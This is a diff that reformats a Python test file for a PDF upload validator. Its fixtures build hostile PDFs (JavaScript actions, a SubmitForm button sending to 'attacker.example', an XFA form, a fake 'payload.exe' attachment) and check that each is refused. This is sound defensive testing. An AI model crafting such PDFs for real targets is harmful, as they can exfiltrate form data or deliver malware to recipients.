@@ -48,7 +48,10 @@ def _incremental(base: bytes, objects: dict[int, bytes], *, root: str) -> bytes:
         out += b"%d 1\n%010d 00000 n \n" % (num, at)
     size = max(size, max(objects) + 1)
     out += b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
-        size, root.encode(), prev, xref_at,
+        size,
+        root.encode(),
+        prev,
+        xref_at,
     )
     return bytes(out)
 
@@ -58,7 +61,9 @@ def _js_action(pdf: pikepdf.Pdf) -> Dictionary:
 
 
 def _link(pdf: pikepdf.Pdf, action: Dictionary) -> None:
-    annot = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 100, 100]), A=action))
+    annot = pdf.make_indirect(
+        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 100, 100]), A=action)
+    )
     pdf.pages[0].obj.Annots = Array([annot])
 
 
@@ -78,7 +83,9 @@ def javascript_link_in_object_stream() -> bytes:
 
 def javascript_in_names_tree() -> bytes:
     pdf = _doc()
-    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), pdf.make_indirect(_js_action(pdf))])))
+    pdf.Root.Names = Dictionary(
+        JavaScript=Dictionary(Names=Array([String("x"), pdf.make_indirect(_js_action(pdf))]))
+    )
     return _save(pdf)
 
 
@@ -98,7 +105,11 @@ def submit_form_field() -> bytes:
     pdf = _doc()
     field = pdf.make_indirect(
         Dictionary(
-            FT=Name.Btn, T=String("send"), Type=Name.Annot, Subtype=Name.Widget, Rect=Array([0, 0, 50, 20]),
+            FT=Name.Btn,
+            T=String("send"),
+            Type=Name.Annot,
+            Subtype=Name.Widget,
+            Rect=Array([0, 0, 50, 20]),
             A=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://attacker.example"))),
         )
     )
@@ -116,7 +127,9 @@ def xfa_form() -> bytes:
 
 def embedded_file() -> bytes:
     pdf = _doc()
-    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 not really", mime_type="application/x-msdownload")
+    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(
+        pdf, b"MZ\x90\x00 not really", mime_type="application/x-msdownload"
+    )
     return _save(pdf)
 
 
@@ -189,8 +202,9 @@ def test_hostile_pdf_is_refused(build) -> None:
     assert "证明资料" in e.value.message
 
 
-@pytest.mark.parametrize("build", [encrypted_no_user_password, encrypted_with_user_password],
-                         ids=lambda f: f.__name__)
+@pytest.mark.parametrize(
+    "build", [encrypted_no_user_password, encrypted_with_user_password], ids=lambda f: f.__name__
+)
 def test_encrypted_pdf_is_refused(build) -> None:
     with pytest.raises(UnsupportedMedia) as e:
         check_file_sync(build(), {"pdf"})
@@ -215,7 +229,9 @@ def test_clean_pdfs_pass() -> None:
     plain = _save(_doc(), packed=False)
     with pikepdf.open(io.BytesIO(plain)) as reread:
         page = reread.pages[0].obj
-        updated = _incremental(plain, {page.objgen[0]: page.unparse(resolved=True)}, root=f"{reread.Root.objgen[0]} 0 R")
+        updated = _incremental(
+            plain, {page.objgen[0]: page.unparse(resolved=True)}, root=f"{reread.Root.objgen[0]} 0 R"
+        )
     assert check_file_sync(updated, {"pdf"}).kind == "pdf"
 
 
